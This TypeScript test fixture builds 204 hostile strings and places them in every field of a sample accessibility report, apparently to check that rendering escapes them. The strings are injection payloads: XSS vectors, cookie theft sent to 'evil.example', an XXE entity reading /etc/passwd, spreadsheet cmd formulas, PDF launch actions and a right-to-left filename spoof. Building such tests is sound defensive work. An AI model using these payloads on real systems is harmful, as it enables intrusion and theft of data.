import { type IssueInput, sampleReport } from "./samples.ts";

/** What an attacker wants to be run or obeyed; each family puts it where another kind of reader would take it. */
const payloads = [
  "alert(1)",
  "fetch('//evil.example/'+document.cookie)",
  "location='//evil.example'",
  "top.opener.eval(name)",
  "import('data:text/javascript,1')",
  "setTimeout`alert\\x281\\x29`",
];

const families: ((payload: string) => string)[] = [
  // Markup
  (code) => `<script>${code}</script>`,
  (code) => `</script><script>${code}</script>`,
  (code) => `</title></head><body onload="${code}">`,
  (code) => `"><img src=x onerror="${code}">`,
  (code) => `'><svg/onload='${code}'>`,
  (code) => `\`onmouseover=${code}\``,
  (code) => `" autofocus onfocus="${code}" x="`,
  (code) => `<iframe srcdoc="&lt;script&gt;${code}&lt;/script&gt;"></iframe>`,
  (code) => `<a href="javascript:${code}">read</a>`,
  (code) => `<a href="java&#10;script:${code}">read</a>`,
  (code) => `<math><mtext><style><img src=x onerror=${code}></style></mtext></math>`,
  (code) => `</style><style>@import "//evil.example/${code}";</style>`,
  (code) => `--><script>${code}</script><!--`,
  (code) => `<meta http-equiv="refresh" content="0;url=javascript:${code}">`,
  (code) => `<base href="//evil.example/"><object data="${code}"></object>`,
  (code) => `&lt;script&gt;${code}&lt;/script&gt;`,
  (code) => `\u0000<scr\u0000ipt>${code}</script>`,
  // XML
  (code) => `]]><script xmlns="http://www.w3.org/1999/xhtml">${code}</script><![CDATA[`,
  (code) => `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;${code}</x>`,
  (code) => `<?xml-stylesheet href="javascript:${code}"?>`,
  // JSON and JavaScript
  (code) => `"};${code};//`,
  (code) => `\u2028${code}\u2029`,
  (code) => `\\u003cscript\\u003e${code}\\`,
  // Spreadsheets
  (code) => `=HYPERLINK("http://evil.example/?"&A1,"${code}")`,
  (code) => `+cmd|'/C ${code}'!A0`,
  (code) => `-2+3+cmd|'/C ${code}'!A0`,
  (code) => `@SUM(1+1)*cmd|'/C ${code}'!A0`,
  (code) => `\t=cmd|'/C ${code}'!A0`,
  (code) => `\r\n=cmd|'/C ${code}'!A0`,
  (code) => `x";=cmd|'/C ${code}'!A0;"`,
  // PDF
  (code) => `) Tj ET /OpenAction << /S /JavaScript /JS (${code}) >> (`,
  (code) => `endstream endobj 99 0 obj << /S /Launch /F (${code}) >> endobj`,
  // Text that looks like something else
  (code) => `invoice\u202Efdp.exe ${code}\u2066`,
  (code) => `${code}\uD800\uDFFF\uDC00\uFFFF\u0007\u001B[31m`,
];

/** 204 strings that would do harm somewhere if they were taken for anything but text. */
export const hostileStrings: readonly string[] = families.flatMap((family) => payloads.map(family));

const checkIds = ["image-alt", "table-headers", "list-structure", "figure-captions"];

/** A report that has every hostile string in every field that comes from a document or its name. */
export const hostileReport = sampleReport({
  filename: hostileStrings.slice(0, 20).join(" "),
  not_read: [...hostileStrings],
  verdict: "incomplete",
  found: hostileStrings.map((text, at): IssueInput => {
    const place = { label: text, path: text, part: text, page: at + 1, line: at + 1, column: 1 };
    return {
      check_id: checkIds[at % 4]!,
      message: `Wrong: ${text}`,
      fix: text,
      snippet: text,
      location: place,
    };
  }),
});
